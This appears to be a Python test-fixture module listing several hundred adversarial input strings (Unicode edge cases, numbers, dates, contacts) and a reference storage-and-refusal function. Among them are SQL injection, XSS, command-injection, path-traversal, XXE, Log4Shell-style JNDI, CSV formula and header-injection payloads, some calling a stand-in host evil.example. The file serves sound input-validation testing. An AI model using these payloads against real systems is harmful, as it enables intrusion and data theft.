"""Three hundred texts that break programs: each is stored as it is told (C6), or refused."""

import unicodedata
from itertools import islice

MARK_BELOW, MARK_ABOVE = "\u0316", "\u0301"  # combining classes 220 and 230: never in order


def storm(length: int) -> str:
    """Return a letter and marks in the worst order: composing them by exchange is quadratic."""
    return "e" + (MARK_ABOVE + MARK_BELOW) * (length // 2)


def wide(count: int, first: int = 0x3300) -> str:
    """Return characters that each become several when texts are folded, hardly any twice."""
    return "".join(chr(first + (place * 7) % 88) for place in range(count))


SQL = [
    "'", "''", '"', "`", "\\", "\\'", ";", "--", "#", "/*", "' OR '1'='1", "' OR 1=1 --",
    '" OR ""="', "'; DROP TABLE contact; --", "1; DELETE FROM opportunity",
    "') UNION SELECT email FROM contact --", "' UNION ALL SELECT NULL,NULL,NULL --",
    "'; SELECT pg_sleep(10); --", "1 AND 1=(SELECT COUNT(*) FROM sqlite_master)",
    "$$; ROLLBACK; $$", "x'||lower('A')||'", "CAST(0x41 AS TEXT)", "\u02bc OR 1=1",
    "\uff07 OR 1=1", ":name", "%(name)s", "?", "$1", "{:name}", "NULL", "DEFAULT", "E'\\x41'",
    "U&'\\0041'",
]  # fmt: skip
WILDCARDS = [
    "%", "%%", "_", "____", "%_%", "\\%", "[a-z]%", "*", "?*", "%'", ".*", "(a+)+$", "^", "~*",
]  # fmt: skip
QUOTES = [
    "\u2018x\u2019", "\u201cx\u201d", "\u00abx\u00bb", "`'\"\u2032\u2033", "'\\\"'", "\\\\\\",
    "\\n", "\\u0000", "\\x00",
]  # fmt: skip
CONTROLS = [chr(one) for one in (*range(32), 127, *range(0x80, 0xA0))]
HIDDEN_NULS = [
    "a\0b", "\0a", "a\0", "\0" * 200, "a\u0001b", "a\x1b[31mred\x1b[0m", "a\x7f", "a\rb", "a\x85b",
]  # fmt: skip
BLANK = [
    "", " ", "   ", "\t", "\n", "\n\n", "\u00a0", "\u3000", "\u2003\u2003", "\u2028", "\u2029",
    "\u1680", "\u205f",
]  # fmt: skip
LINES = [
    "a\nb", "a\n\nb", "a\tb", " a ", "\ta\n", "a\u2028b", "a\u2029b", "a\u000bb", "a\u000cb",
    "a\r\nb",
]  # fmt: skip
SURROGATES = [
    "\ud800", "\udfff", "a\ud83d", "\ude00a", "\udc00\ud800", "x" * 199 + "\udbff",
    "\ud83d \ude00",
]  # fmt: skip
INVISIBLE = [
    "\ufeff", "\ufeffa", "a\ufeff", "\u200b", "a\u200bb", "\u200c\u200d", "\u2060a", "\u00ad",
    "a\u00adb", "\u180e", "\u034f", "\u061c", "\u115f\u1160", "\u3164", "\uffa0", "\u2800",
    "\U000e0001\U000e0041", "\ufe0f", "\U000e0100", "\U0001d173",
]  # fmt: skip
DIRECTIONS = [
    "\u202eabc", "abc\u202dcba", "\u2066a\u2069", "\u202e\u202e\u202e", "\u200fa\u200e",
    "(\u05d0)", "a\u202egnp.exe",
]  # fmt: skip
COMBINING = [
    MARK_ABOVE, "\u20dd", "e" + MARK_ABOVE, storm(20), storm(198), storm(400), storm(20_000),
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f",
    "\u0308" * 200, "\u0f73\u0f75\u0f71", "a" + "\u0345" * 50, "\u1e9b\u0323", "\u09c7\u09be",
]  # fmt: skip
PLANES = [
    chr(plane << 16 | offset)
    for plane in range(17)
    for offset in (0x0041, 0x0400, 0xF900, 0xFFFD, 0xFFFE, 0xFFFF)
]
EMOJI = [
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f44d\U0001f3fd", "\U0001f1fa\U0001f1f8",
    "\U0001f1fa", "1\ufe0f\u20e3",
    "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f469" * 20, "\U0001f600" * 200,
    "\U0001f600" * 201, "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
]  # fmt: skip
SCRIPTS = [
    "\u0130stanbul", "\u0131s\u0131k", "I\u0307", "i\u0307", "stra\u00dfe", "STRA\u1e9eE",
    "\u03a3\u03af\u03c3\u03c5\u03c6\u03bf\u03c2", "\u0e01\u0e33\u0e49",
    "\u0e19\u0e49\u0e33\u0e15\u0e32\u0e25", "\u0915\u094d\u0937\u093f",
    "\u05e9\u05c1\u05b8\u05dc\u05d5\u05b9\u05dd", "\u0645\u064f\u062d\u0645\u062f", "\ufdfa",
    "\u6c38\u548c\u3059\u308b", "\U00020bb7\u91ce\u5bb6", "\u01c5", "\ufb03", "\u0149",
    "\u1c90\u10d0", "\ua64a\u1c88", "\u04c0\u04cf", "\u13a0\uab70", "\u216b\u2183",
    "\u00bd\u2155\u0662\u0665",
]  # fmt: skip
# Texts in several normal forms.
PAIRS = [
    "\u00e9", "e\u0301\u0301", "\u1ea5", "a\u0302\u0301", "\u212b", "\u00c5", "A\u030a", "\uac00",
    "\u1100\u1161", "\ud55c\uad6d", "\u2126", "\u03a9", "\uf900", "\u0958", "\u0344", "\u0340a",
    "\u1fee", "\u0387", "\u2000", "\U0001d15e", "\ufb1d", "\u0b94",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "00", "1", "-1", "1e309", "-1e309", "NaN", "Infinity", "-Infinity", "0x10", "1_000",
    "1,000.00", "500.00", "500.001", "500.", ".5", "+5", "9999999999.99", "10000000000", "-0.01",
    "1e2", "\u0661\u0662", "\uff15\uff10", "9" * 100, "0." + "0" * 100 + "1", "2147483648",
    "-9223372036854775809", "true", "false", "null", "undefined", "None", "nil", "[]", "{}",
]  # fmt: skip
FORMATS = [
    *("%s", "%n%n%n%n", "%x%x", "%1$s", "{}", "{0}", "{0.__class__}", "{self}", "%(asctime)s"),
    *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "${jndi:ldap://evil.example/a}"),
    *("$(id)", "`id`", "| id", "&& id", "; id", "\nid", "$HOME", "%PATH%", "!!python/object:os"),
]  # fmt: skip
PATHS = [
    *("../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "/dev/null", "C:\\con"),
    *("file:///etc/passwd", "..%c0%af", "con", "nul.txt", ".", "..", "/", "//evil.example", "~"),
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>',
    "javascript:alert(1)", "&lt;b&gt;", "&#0;", "<!--", "]]>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "</textarea>", "<b>bold</b>",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0",
    "\t=1+1", "a,b", 'a","b', "a;b",
]  # fmt: skip
JSON = [
    '{"a":1}', "[1]", '"a"', "\\ud800", '{"$ne":null}', '{"__proto__":{"a":1}}',
    '"}],"errors":[]}', "\\", "\\u", "}", '{"type":"next"}',
]  # fmt: skip
HEADERS = [
    "a\r\nSet-Cookie: a=b", "a%0d%0ab", "a: b", "data: x\n\nevent: complete\n\n", "\n\ndata: x",
]  # fmt: skip
DATES = [
    "2026-01-31", "2026-01-31T09:30:00", "2026-01-31T09:30:00Z", "2026-01-31T09:30:00+99:99",
    "2026-02-30T00:00:00Z", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59.999999999-23:59", "9999-12-31T23:59:60Z", "2026-01-31t09:30:00z",
    "1969-12-31T23:59:59.999999Z", "2026-01-31T24:00:00Z", "12026-01-31T09:30:00Z",
    "2026-W05-6T00:00:00Z", "31.01.2026", "01/31/2026", "now()", "infinity", "epoch",
    "\uff12026-01-31T09:30:00Z", "2026-01-31T09:30:00.1234567890Z", "0001-01-01T00:00:00Z",
]  # fmt: skip
CONTACTS = [
    "a@b", "a@b.c", "@", "a@@b.example", '"a b"@c.example', "a@[127.0.0.1]", "a@b.example\n",
    "\u00e9@b.example", "a@\u4f8b\u3048.example", "\u0130@b.example", "a@xn--.example",
    "x" * 64 + "@b.example", "x" * 65 + "@b.example", "a@" + "b" * 250, "a@b.example,c@d.example",
    "+1", "+12125550142", "(212) 555-0142", "911", "+" + "9" * 50, "tel:+1-212-555-0142",
    "\u0662\u0661\u0662", "+1 212 555 0142 ext. 9", "1-800-FLOWERS", "++12125550142",
]  # fmt: skip
LENGTHS = (50, 51, 199, 200, 201, 254, 255, 401, 1000, 4096, 20_001, 60_000)
LONG = [
    *("x" * length for length in LENGTHS),
    "\u03b1\u0313\u0300\u0345" * 200, "\u03b1\u0313\u0300\u0345" * 201,  # each four become one
    "\u00e9" * 200, "e\u0301" * 200, "e\u0301" * 201, " " * 5000, " " * 5000 + "a", "a " * 100,
    "\U0010fffd" * 200, "\ufdfa" * 200, "\uac01" * 200, wide(200), wide(50), wide(200, 0xAC01),
    "a b " * 50, "'" * 200, "\\" * 200, "%" * 200, "-" * 200, "0" * 200,
    "\u1100\u1161\u11a8" * 200,
]  # fmt: skip

GROUPS = (
    SQL, WILDCARDS, QUOTES, CONTROLS, HIDDEN_NULS, BLANK, LINES, SURROGATES, INVISIBLE, DIRECTIONS,
    COMBINING, PLANES, EMOJI, SCRIPTS, PAIRS, NUMBERS, FORMATS, PATHS, MARKUP, FORMULAS, JSON,
    HEADERS, DATES, CONTACTS, LONG,
)  # fmt: skip
STRINGS = list(dict.fromkeys(text for group in GROUPS for text in group))


def some(count: int, turn: int) -> list[str]:
    """Return `count` texts of all kinds, others at each turn."""
    order = sorted(range(len(STRINGS)), key=lambda place: (place * 131 + turn * 17) % len(STRINGS))
    return [STRINGS[place] for place in islice(order, count)]


def stored(text: str, longest: int) -> str | None:
    """Return what a text becomes when it is stored, None for a blank one (C6).

    ValueError for one that must be refused: with controls or halves of characters, or too long.
    """
    if any(unicodedata.category(one) in ("Cc", "Cs") and one not in "\t\n" for one in text):
        raise ValueError("cannot be stored")
    plain = unicodedata.normalize("NFC", text).strip()
    if len(plain) > longest:
        raise ValueError("too long")
    return plain or None
